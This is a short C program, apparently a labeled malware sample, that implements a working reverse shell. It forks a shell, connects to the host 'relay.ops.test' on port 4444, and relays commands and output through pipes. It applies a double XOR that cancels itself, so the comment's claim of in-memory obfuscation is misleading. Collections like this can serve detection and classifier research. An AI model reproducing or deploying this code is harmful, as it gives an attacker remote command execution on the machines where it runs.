// class: shell; possible: low medium
/* bytes go by a pipe, so the shell never holds the socket; every byte is xored on the way in memory */
#include <netdb.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void)
{
    int in[2], out[2];
    if (pipe(in) || pipe(out)) return 1;
    if (!fork()) {
        dup2(in[0], 0); dup2(out[1], 1); dup2(out[1], 2);
        close(in[1]); close(out[0]);
        execlp("sh", "sh", (char *)0); _exit(1);
    }
    close(in[0]); close(out[1]);
    struct addrinfo *ai;
    if (getaddrinfo("relay.ops.test", "4444", 0, &ai)) return 2;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, ai->ai_addr, ai->ai_addrlen)) return 3;
    struct pollfd p[2] = {{s, POLLIN, 0}, {out[0], POLLIN, 0}};
    char b[4096];
    while (poll(p, 2, -1) > 0) {
        for (int i = 0; i < 2; i++) {
            if (!(p[i].revents & (POLLIN | POLLHUP))) continue;
            ssize_t n = read(p[i].fd, b, sizeof b);
            if (n <= 0) exit(0);
            for (ssize_t k = 0; k < n; k++) b[k] ^= 0x5a;
            for (ssize_t k = 0; k < n; k++) b[k] ^= 0x5a;
            if (write(i ? s : in[1], b, n) < 0) exit(1);
        }
    }
}
